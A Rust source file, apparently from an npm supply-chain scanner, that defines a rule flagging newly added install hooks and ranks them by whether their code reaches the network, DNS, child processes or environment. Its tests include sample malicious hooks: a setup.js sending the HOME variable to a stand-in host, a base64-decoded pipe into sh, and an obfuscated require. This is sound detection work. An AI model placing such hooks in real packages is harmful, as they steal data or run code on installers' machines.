//! `new-install-script`: the version adds an install hook.

use turncoat_finding::{Evidence, Finding, Level, RuleDoc, Severity};
use turncoat_npm::semver::Bump;

use super::{DiffCx, changed_hooks};
use crate::facts::{Capability, HookFacts, ShellFeature};

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "new-install-script",
    group: "analyze",
    severity: Severity::High,
    default_level: Level::Deny,
    summary: "The version adds a preinstall/install/postinstall hook the previous version did not have.",
    doc: r#"Flags an install hook (`preinstall`, `install`, `postinstall`, or npm's implicit `node-gyp rebuild` for a new `binding.gyp`) that the previous version did not declare. A hook whose commands only print or run package files that reach no capability is reported as `new-install-script-inert` (warn) instead, and a new `prepare` as `new-prepare-script` (allow: it runs only for git installs).

**Severity.**
- high when the package had no install hook before; medium when it already ran one (a new hook of a package that always ran scripts); low for the implicit `node-gyp rebuild`;
- **critical** in a patch, minor or prerelease when the hook's code (the files it runs and what they load) reaches the network, DNS, `child_process` or the environment, or the command downloads or looks up DNS: hook + capability in x.y.z+1 is the takeover shape (eslint-scope, eslint-config-prettier, nx, Shai-Hulud).

**Why it matters.** A hook runs on every `npm install` with the installing user's and the CI's credentials, before any code review of the dependency happens.

**Example.** 3.1.4 had no scripts; 3.1.5 adds `"postinstall": "node lib/setup.js"`.

**How to silence.** Approve the hook for the exact version (npm 12 `allowScripts`, pnpm `allowBuilds`) and add a policy exception on `new-install-script` for `name@version`."#,
};

/// Capabilities that make a new hook the takeover shape rather than a message printer.
/// A bare environment read is not among them: a hook that checks `process.env.CI` before
/// printing reaches nothing by it (and `exfiltration-shape` joins a read to a sink).
const HOOK_REACH: [Capability; 10] = [
    Capability::Network,
    Capability::Dns,
    Capability::DnsFromData,
    Capability::ChildProcess,
    Capability::EnvDump,
    Capability::SensitiveRead,
    Capability::PersistenceWrite,
    Capability::Eval,
    Capability::DynamicRequire,
    Capability::DecodeExec,
];

/// Programs a hook may start and stay inert: printing, and `node` running a package file
/// (whose code is judged through the install-time closure).
const INERT_PROGRAMS: &[&str] = &["echo", "printf", "true", "exit", ":", "node", "nodejs"];

/// Why a new hook is not inert, or `None` when everything it runs was read and reaches no
/// capability: only printing programs, only package files that parsed, are not obfuscated,
/// load no binary, and (with everything they load at install time) use none of [`HOOK_REACH`].
/// Whatever cannot be read (a program from a dependency, inline code, a missing or binary
/// entry file) is not inert: the hook is judged by what it runs, and unknown is not nothing.
pub(crate) fn not_inert(cx: &DiffCx<'_>, hook: &HookFacts) -> Option<String> {
    if let Some(f) = hook
        .features
        .iter()
        .find(|f| **f != ShellFeature::RunsPackageFile)
    {
        return Some(f.describe().to_string());
    }
    if let Some(p) = hook
        .programs
        .iter()
        .find(|p| !INERT_PROGRAMS.contains(&p.as_str()))
    {
        return Some(format!("runs `{p}`, which the gate cannot read"));
    }
    for entry in &hook.entry_files {
        match cx.new.js(entry) {
            Some(js) if js.parsed() => {}
            Some(_) => return Some(format!("{entry} does not parse")),
            None => return Some(format!("runs {entry}, which is not a readable script")),
        }
    }
    for path in &cx.new.install_time_files {
        let Some(file) = cx.new.files.get(path) else {
            continue;
        };
        if file.binary.is_some() {
            return Some(format!("loads native code ({path})"));
        }
        if file.skipped.is_some() {
            return Some(format!("{path} was not analysed"));
        }
        let Some(js) = &file.js else { continue };
        if js.obfuscated {
            return Some(format!("{path} is obfuscated"));
        }
        if let Some(c) = HOOK_REACH.iter().find(|&&c| js.has(c)) {
            return Some(format!("{path} {}", c.describe()));
        }
    }
    None
}

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    let old_had_hooks = cx
        .old
        .manifest
        .as_ref()
        .is_some_and(|m| !m.install_hooks.is_empty());
    for (name, hook, before) in changed_hooks(cx) {
        if before.is_some() {
            continue;
        }
        let implicit_gyp = hook.command == "node-gyp rebuild";
        let reach = [
            Capability::Network,
            Capability::Dns,
            Capability::ChildProcess,
            Capability::EnvRead,
            Capability::EnvDump,
            Capability::SensitiveRead,
        ];
        let reached: Vec<&str> = reach
            .iter()
            .filter(|&&c| {
                cx.new
                    .scripts()
                    .any(|(p, js)| cx.new.is_install_time(p) && js.has(c))
            })
            .map(|c| c.describe())
            .collect();
        let shell_reach = hook.features.iter().any(|f| {
            matches!(
                f,
                ShellFeature::Download | ShellFeature::DnsLookup | ShellFeature::PipeToShell
            )
        });
        let small_step = matches!(
            cx.bump(),
            Bump::Patch | Bump::Minor | Bump::Prerelease | Bump::Unknown
        );
        let severity = if small_step && (!reached.is_empty() || shell_reach) {
            Severity::Critical
        } else if implicit_gyp {
            Severity::Low
        } else if old_had_hooks {
            Severity::Medium
        } else {
            RULE.severity
        };
        let mut message = format!(
            "{} adds a {name} hook ({}); {} had {}",
            cx.to(),
            hook.command,
            cx.from(),
            if old_had_hooks {
                "other install hooks"
            } else {
                "no install hook"
            },
        );
        if !reached.is_empty() {
            message.push_str(&format!("; its code {}", reached.join(", ")));
        }
        let inert = !implicit_gyp && not_inert(cx, hook).is_none();
        let (rule, severity) = if inert {
            message.push_str("; it reaches no capability");
            (&super::new_install_script_inert::RULE, Severity::Medium)
        } else {
            (&RULE, severity)
        };
        let mut f = Finding::new(rule, message)
            .with_severity(severity)
            .with_evidence(
                Evidence::new("package.json")
                    .with_snippet(&format!("\"{name}\": {:?}", hook.command)),
            );
        for entry in &hook.entry_files {
            f = f.with_evidence(Evidence::new(entry.clone()));
        }
        out.push(f);
    }
    let old_prepare = cx.old.manifest.as_ref().and_then(|m| m.prepare.as_ref());
    if let Some(p) = cx.new.manifest.as_ref().and_then(|m| m.prepare.as_ref())
        && old_prepare.is_none()
    {
        out.push(
            Finding::new(
                &super::new_prepare_script::RULE,
                format!(
                    "{} adds a prepare script ({}), which runs only when installed from git",
                    cx.to(),
                    p.command
                ),
            )
            .with_severity(Severity::Info)
            .with_evidence(
                Evidence::new("package.json")
                    .with_snippet(&format!("\"prepare\": {:?}", p.command)),
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    #[test]
    fn takeover_shape_is_critical() {
        let hook = r#""scripts":{"postinstall":"node setup.js"}"#;
        let f = diff_versions(
            "3.1.4",
            &[
                ("package.json", &manifest("3.1.4", "")),
                ("index.js", "module.exports = 1;"),
            ],
            "3.1.5",
            &[
                ("package.json", &manifest("3.1.5", hook)),
                ("index.js", "module.exports = 1;"),
                (
                    "setup.js",
                    "require('https').get('https://x.example/?' + process.env.HOME);",
                ),
            ],
        );
        let hit = find(&f, RULE.code).expect("finding");
        assert_eq!(hit.severity, Severity::Critical);
        assert!(hit.evidence.iter().any(|e| e.path == "setup.js"));
    }

    #[test]
    fn printing_hook_is_inert_existing_hook_is_quiet() {
        let hook = r#""scripts":{"postinstall":"node setup.js"}"#;
        let files_new = [
            ("package.json", manifest("1.0.1", hook)),
            ("setup.js", "console.log(1)".to_string()),
        ];
        let new: Vec<(&str, &str)> = files_new.iter().map(|(p, d)| (*p, d.as_str())).collect();
        let f = diff_versions(
            "1.0.0",
            &[("package.json", &manifest("1.0.0", ""))],
            "1.0.1",
            &new,
        );
        // `console.log(1)` reaches nothing: the hook is reported, as inert.
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
        assert_eq!(
            find(&f, super::super::new_install_script_inert::RULE.code).map(|f| f.severity),
            Some(Severity::Medium)
        );
        let old = [
            ("package.json", manifest("1.0.0", hook)),
            ("setup.js", "console.log(1)".to_string()),
        ];
        let old: Vec<(&str, &str)> = old.iter().map(|(p, d)| (*p, d.as_str())).collect();
        let f = diff_versions("1.0.0", &old, "1.0.1", &new);
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    #[test]
    fn prepare_is_not_an_install_hook() {
        let f = diff_manifest(r#""scripts":{"prepare":"husky"}"#);
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
        assert!(find(&f, super::super::new_prepare_script::RULE.code).is_some());
    }

    /// A new hook whose `node x` runs code that reaches a capability through something the
    /// gate cannot read stays `new-install-script`, whatever the hook looks like.
    #[test]
    fn unreadable_hooks_are_not_inert() {
        let cases = [
            // A program from a dependency: not read.
            (r#""scripts":{"postinstall":"some-tool setup"}"#, None),
            // Inline code.
            (
                r#""scripts":{"postinstall":"node -e \"console.log(1)\""}"#,
                None,
            ),
            // An entry file that is not in the package.
            (r#""scripts":{"postinstall":"node missing.js"}"#, None),
            // An entry file that loads another that reaches the network.
            (
                r#""scripts":{"postinstall":"node setup.js"}"#,
                Some(("setup.js", "console.log('hi'); require('./lib/x');")),
            ),
            // A computed require hides what it loads.
            (
                r#""scripts":{"postinstall":"node setup.js"}"#,
                Some(("setup.js", "const m = ['ht','tps'].join(''); require(m);")),
            ),
            // Echo piped into a shell.
            (
                r#""scripts":{"postinstall":"echo aGk= | base64 -d | sh"}"#,
                None,
            ),
        ];
        for (hook, file) in cases {
            let mut new = vec![
                ("package.json".to_string(), manifest("1.0.1", hook)),
                (
                    "lib/x.js".to_string(),
                    "require('https').get('https://x.invalid/')".to_string(),
                ),
            ];
            if let Some((p, d)) = file {
                new.push((p.to_string(), d.to_string()));
            }
            let new: Vec<(&str, &str)> =
                new.iter().map(|(p, d)| (p.as_str(), d.as_str())).collect();
            let f = diff_versions(
                "1.0.0",
                &[("package.json", &manifest("1.0.0", ""))],
                "1.0.1",
                &new,
            );
            assert!(find(&f, RULE.code).is_some(), "{hook}: {f:?}");
            assert!(
                find(&f, super::super::new_install_script_inert::RULE.code).is_none(),
                "{hook}"
            );
        }
    }
}
